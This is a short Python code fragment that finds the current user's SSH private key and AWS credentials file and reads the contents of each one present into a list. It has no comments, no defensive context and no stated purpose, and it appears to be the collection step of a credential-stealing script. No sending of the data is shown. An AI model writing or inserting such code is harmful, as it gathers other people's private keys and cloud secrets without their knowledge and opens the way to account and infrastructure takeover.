import os

KEYS = [os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.aws/credentials")]
blobs = [open(k).read() for k in KEYS if os.path.exists(k)]
